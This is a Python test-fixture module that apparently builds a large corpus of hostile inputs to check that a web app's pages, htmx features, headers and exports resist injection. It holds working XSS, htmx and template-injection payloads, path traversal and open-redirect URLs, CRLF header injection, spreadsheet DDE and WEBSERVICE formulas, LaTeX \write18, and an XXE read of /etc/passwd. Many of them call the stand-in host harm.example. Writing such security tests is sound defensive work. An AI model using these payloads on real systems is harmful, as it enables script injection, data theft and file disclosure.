"""Texts of strangers that mean harm to a room of web pages: those of the written page and of exports, and more that a
page with htmx, forms, addresses and headers gives hold to."""

from __future__ import annotations

from crossbearing.write.catalogue import web_address
from tests.write import payloads, planted

RUN = "window.harmed('x')"
"""What an attack calls where it runs. The browser's test listens."""

_HTMX = (
    "<div hx-get=/decisions hx-trigger=load hx-target=body>",
    '<div hx-post="/decisions" hx-trigger="load" hx-vals=\'{"kind":"note"}\'>',
    f'<div hx-on:click="{RUN}" hx-on::load="{RUN}" hx-on--load="{RUN}">',
    f'<p data-hx-on:htmx:load="{RUN}" data-hx-get=/ data-hx-trigger=load>',
    f"<a hx-vals='js:{{x:{RUN}}}' hx-get=/ hx-trigger=load>",
    f'" hx-on:click="{RUN}" x="',
    "' hx-get='//harm.example/' hx-trigger='load' x='",
    '" hx-headers=\'{"X-Harm": "1"}\' hx-boost="true" x="',
    "\"}' hx-trigger=load hx-get=//harm.example x='{\"",
    "<main id=main><form hx-post=/try-example hx-trigger=load></form></main>",
    "<div id=recorded hx-post=/decisions hx-trigger=load></div>",
    '<meta name="htmx-config" content=\'{"allowEval": true, "selfRequestsOnly": false}\'>',
    "<div hx-ext=sse sse-connect=//harm.example/ ws-connect=wss://harm.example/>",
    "<div hx-swap-oob=true id=main>gone</div>",
)
_ELEMENTS = (
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<img srcset='x 1x, y 2x' onerror={RUN}>",
    "<img srcset='https://harm.example/1 1x'>",
    "<picture><source srcset=https://harm.example/2><img></picture>",
    "<link rel=prefetch href=https://harm.example/3><link rel=preconnect href=//harm.example>",
    "<object data=javascript:window.harmed()></object><embed src=//harm.example/4>",
    f"<iframe src=javascript:parent.{RUN}></iframe>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<input autofocus onfocus={RUN}>",
    f"<select autofocus onfocus={RUN}></select><textarea autofocus onfocus={RUN}></textarea>",
    f"<keygen autofocus onfocus={RUN}>",
    "<form action=//harm.example/5><input name=csrf><button>Log in</button></form>",
    "<button formaction=//harm.example/6>Go on</button>",
    "<input type=image src=//harm.example/7>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:window.harmed()><text y=20>open</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    f"<svg><foreignObject><body onload={RUN}></foreignObject></svg>",
    "<svg><set attributeName=href to=javascript:window.harmed() begin=0s>",
    "<svg><style>@import '//harm.example/8'</style>",
    f"<math href=javascript:{RUN}>open</math>",
    "<math><annotation-xml encoding=text/html><iframe srcdoc=x></annotation-xml></math>",
    f"<template><script>{RUN}</script></template>",
    f"<div><template shadowrootmode=open><img src=x onerror={RUN}></template></div>",
    "<style>@import url(//harm.example/9);input[value^=a]{background:url(//harm.example/a)}</style>",
    "<div style='background:url(//harm.example/10);position:fixed;inset:0'>over all</div>",
    f"<x onclick={RUN} tabindex=1 onfocus={RUN} autofocus>y</x>",
    f"<details ontoggle={RUN} open><summary>s",
    f"<dialog open onclose={RUN}><form method=dialog><button>b",
    f"<div popover id=p onbeforetoggle={RUN}></div><button popovertarget=p autofocus>b",
    "<meta http-equiv=refresh content=0;url=//harm.example/11>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta http-equiv=Set-Cookie content=crossbearing=x>",
    "<base target=_blank href=//harm.example/>",
    "<title>other</title><html lang=xx><body class=x id=main>",
    "<plaintext>",
    "<xmp><img src=x></xmp>",
    "<textarea>",
    "<!--",
    "--!><img src=x>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<?xml-stylesheet href='javascript:window.harmed()'?>",
    "<?php echo 1 ?>",
    "<![CDATA[<script>window.harmed()</script>]]>",
    f"<a href='#' id=words name=forms onclick={RUN}>x</a><img name=getElementById>",
    "<form id=help><input name=showModal></form><a id=theme></a><a id=theme name=dataset></a>",
    "<bdo dir=rtl>",
    "<p dir=auto lang=\"x\" onmouseenter=window.harmed()>",
    "<input type=hidden name=csrf value=x form=y accesskey=x>",
    "<label for=token>Your token",
    f"<script type=module>import('//harm.example/12');{RUN}</script>",
    "<script type=importmap>{\"imports\":{}}</script>",
    "<script src=/captures/capture-0000000000000000/body></script>",
    f"<script\x0bsrc=x>{RUN}</script\x0c>",
    f"<scr\x00ipt>{RUN}</scr\x00ipt>",
    f"<\u0130mg src=x onerror={RUN}>",
    f"<img/src=`x`/onerror={RUN}//",
    "<a href=\u0001javascript:window.harmed()>x</a>",
    "<a href=javascript&#58;window.harmed()>x</a>",
    "<a href=jav&#x0A;ascript:window.harmed()>x</a>",
    "<a href='java\nscript:window.harmed()' target=_top ping=//harm.example/13>x</a>",
)  # fmt: skip
_ATTRIBUTES = (
    f'" onfocus="{RUN}" autofocus="',
    f"' onfocus='{RUN}' autofocus='",
    f"` onfocus=`{RUN}` autofocus=`",
    f'"onmouseover={RUN} ',
    f'">\n<img src=x onerror="{RUN}">',
    f"&quot; onfocus=&quot;{RUN}&quot;",
    f"&#34;&gt;&lt;img src=x onerror={RUN}&gt;",
    "\" style=\"background:url('//harm.example/14')",
    '" href="javascript:window.harmed()',
    '" formaction="//harm.example/15',
    '" srcdoc="<script>parent.harmed()</script>',
    '" id="main" class="words',
    '" data-key="1" data-report="x" data-drop="',
    '"/><use href="//harm.example/16#x',
    '{"a": "</script><script>window.harmed()</script>"}',
    "'; window.harmed(); '",
    "\\'; window.harmed(); //",
    '\\"; window.harmed(); //',
    "</script ><script>window.harmed()//",
    'x" x=\'" y=">',
)
_TEMPLATES = (
    "{{ room.case }}{{ asked.csrf }}",
    "{{ self.__init__.__globals__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include '/etc/passwd' %}",
    "{% set csrf = 'x' %}{% endblock %}{% block main %}",
    "{# hidden #}",
    "{{ '<b>'|safe }}",
    "{% trans %}x{% endtrans %}",
    "%(count)s %s %d %n %(x)",
    "{0} {x} {0.__class__} {x!r}",
    "${window.harmed()}",
    "#{window.harmed()} *{7*7} @{7*7} ~{7*7}",
    "<%= window.harmed() %>",
    "[[${7*7}]]",
    "{{constructor.constructor('window.harmed()')()}}",
    "<div v-on:click=window.harmed() ng-app x-data x-init=window.harmed()>",
)
_WAYS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "//harm.example/17",
    "/\\harm.example",
    "/\t/harm.example",
    "/%2f%2fharm.example",
    "/%5charm.example",
    "https:harm.example",
    "https:/\\harm.example",
    "http://127.0.0.1:1/?recorded=../captures/capture-0000000000000000/body",
    "https://harm.example\\@quay.example/",
    "https://quay.example\u3002harm.example/",
    "https://quay.example/\u202egpj.exe",
    "javascript://quay.example/%0awindow.harmed()",
    "data:image/svg+xml,<svg onload=window.harmed()>",
    "blob:https://quay.example/x",
    "view-source:https://quay.example/",
    "https://[::1/",
    "https://quay.example:99999/",
    "con",
    "aux.txt",
    "a.txt:stream",
    ".",
    "..",
    "%2e%2e%2f",
    "%00",
    "%",
    "%zz",
    "?x=1#y",
    "a/b/c.json",
    ".json",
    "a;b,c",
    "x" * 300 + ".html",
    "name.html\n.exe",
)
_HEADERS = (
    "x\r\nSet-Cookie: crossbearing=x",
    "x\r\n\r\n<script>window.harmed()</script>",
    "x\nLocation: //harm.example/",
    "x%0d%0aHX-Redirect: //harm.example/",
    'x"; filename="y.html',
    "x\u560d\u560aSet-Cookie: y=1",
    "=?utf-8?q?=3Cscript=3E?=",
)
_DATA = (
    "@preamble{x} @article{y, title = {z}}",
    "} @comment{ \\input{/etc/passwd} \\write18{id}",
    "\\href{javascript:window.harmed()}{x} \\immediate",
    "%PDF-1.4 <</S/JavaScript/JS(app.alert(1))>>",
    '=DDE("cmd";"/C calc";"x")',
    '=WEBSERVICE("https://harm.example/")',
    "@SUM(1,1)|cmd|'/C calc'!A0",
    '=IMPORTXML("https://harm.example/","//a")',
    "\u2028=1+1\u2029=2",
    "\ufeff=1+1",
    "x,y\r\n=1+1,z",
    '{"@context": "https://harm.example/", "@id": "x"}',
    '"""',
    "---\ntitle: x\n---",
    "![](//harm.example/18)",
    "<w:t>x</w:t><w:instrText>DDEAUTO c:\\\\x</w:instrText>",
    "' OR 1=1 --",
    '" NEAR(x y) OR *',
    'words: AND ("',
    "-",
    '"',
    "*",
)
_LETTERS = (
    "\u202e\u2066\u2067\u2068" + "turned" + "\u202e" * 20,
    "\u061c\u200e\u200f\u200b\u2060\ufeff",
    "Z\u0351\u036b\u0343" * 60,
    "\U000e0041\U000e0042\U000e007f",
    "\ufff9x\ufffay\ufffb",
    "\u00ad\u034f\u115f\u3164",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 30,
    "\u0001\u0002\u0008\u000b\u000c\u001f\u007f\u009f",
    "x" * 5000,
    "\u0644\u0644\u0647" * 100,
    "İıſK",
    "\uff1cimg src=x onerror=window.harmed()\uff1e",
    "‹script›window.harmed()‹/script›",
)
ATTACKS: tuple[str, ...] = tuple(
    dict.fromkeys(
        each
        for table in (
            planted.ATTACKS, payloads.PAYLOADS, _HTMX, _ELEMENTS, _ATTRIBUTES, _TEMPLATES, _WAYS, _HEADERS, _DATA,
            _LETTERS,
        )
        for each in table
    )
)  # fmt: skip
"""No two alike."""
STORED: tuple[str, ...] = tuple(each for each in ATTACKS if not any("\ud800" <= letter <= "\udfff" for letter in each))
"""Those that a record can hold: no halves of letters."""


ALONE: tuple[str, ...] = (*planted._ADDRESSES, *_WAYS)
"""Those that would be none if words stood before or behind them."""
PACK = 20


def packed() -> tuple[str, ...]:
    """All that a record can hold, those that can stand beside others twenty at a time."""
    many = [each for each in STORED if each not in ALONE]
    return (*(" ".join(many[at : at + PACK]) for at in range(0, len(many), PACK)), *ALONE)


def harmless(attacks: tuple[str, ...]) -> tuple[str, ...]:
    """As many texts of as many words that mean no harm; addresses where these are such as a page links to."""
    return tuple(
        f"https://quay.example/{number}"
        if web_address(each)
        else " ".join(f"Word{number}n{place}" for place in range(max(1, len(each.split()))))
        for number, each in enumerate(attacks)
    )
